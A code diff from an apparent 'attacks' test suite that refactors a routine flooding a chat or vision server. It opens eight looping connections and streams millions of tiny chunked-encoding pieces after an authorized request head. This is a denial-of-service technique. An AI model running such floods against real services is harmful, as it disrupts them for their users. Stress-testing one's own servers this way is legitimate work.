@@ -1,10 +1,8 @@
 """A viewer's questions that cost far more than they weigh: forms, tools, texts, numbers of parts."""
 
-import asyncio
-import contextlib
 from typing import Any
 
-from attacks.target import Target, chat, forever, user
+from attacks.target import Target, chat, forever, pour, user
 
 JSON = {"Content-Type": "application/json"}
 QUESTION = "What do you see?"
@@ -74,15 +72,7 @@ async def crumbs(target: Target) -> None:
         f"Content-Type: application/json\r\nAuthorization: Bearer {target.token}\r\n\r\n"
     ).encode()
 
-    async def act(_: int) -> None:
-        _reader, writer = await asyncio.wait_for(target.connect(), 10)
-        with contextlib.closing(writer):
-            writer.write(head)
-            for _ in range(2000):
-                writer.write(b"1\r\n \r\n" * 10_000)
-                await asyncio.wait_for(writer.drain(), 60)
-
-    await forever(8, act)
+    await forever(8, lambda _: pour(target, head, b"1\r\n \r\n" * 10_000, 2000))
 
 
 async def messages(target: Target) -> None:
